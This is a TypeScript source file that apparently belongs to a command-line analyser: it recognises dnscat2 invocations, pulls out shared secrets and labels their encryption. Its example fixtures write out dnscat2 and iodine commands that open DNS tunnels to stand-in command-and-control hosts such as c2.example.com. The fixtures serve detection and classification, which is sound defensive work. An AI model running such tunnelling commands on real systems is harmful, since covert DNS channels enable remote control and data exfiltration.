import { OptionSet } from './option-set.ts';
import type { Tool, ToolArguments, ToolReading } from './tool.ts';

const NAMES = {
  short: 'aesdc',
  long: 'secret dns exec max-retransmits delay host port security download upload listen',
};

function read({ words }: ToolArguments): ToolReading {
  const options = new OptionSet(words, NAMES);
  const secrets = options.ranges('secret', 'c');
  if (options.has('help', 'h', 'version'))
    return { class: 'none', secrets, reason: 'dnscat asked for help only' };
  if (options.has('no-encryption') || options.value('security') === 'open')
    return { class: 'none', secrets, reason: 'dnscat with encryption switched off or optional' };
  return {
    class: 'hybrid',
    direction: 'both',
    algorithm: 'salsa20',
    keySource: secrets.length > 0 ? 'command-line' : 'network',
    inputs: [],
    secrets,
    confidence: 0.85,
    reason: 'dnscat tunnels over DNS, Salsa20 under a key from an ECDH exchange',
  };
}

/** dnscat2: encrypts by default, with a key from ephemeral ECDH; a shared secret only authenticates. */
export const dnscat: Tool = {
  id: 'dnscat2',
  names: ['dnscat', 'dnscat2', 'dnscat2-server'],
  read,
  examples: {
    positive: [
      {
        line: './dnscat --secret=winter c2.example.com',
        platform: 'posix',
        class: 'hybrid',
        direction: 'both',
        algorithm: 'salsa20',
        secrets: ['winter'],
      },
      {
        line: 'dnscat2.exe --dns server=198.51.100.7,port=53',
        platform: 'windows',
        class: 'hybrid',
        keySource: 'network',
      },
    ],
    negative: [
      { line: 'dnscat --no-encryption c2.example.com', platform: 'posix' },
      { line: 'iodine -f -P winter t.example.com', platform: 'posix' },
    ],
  },
};
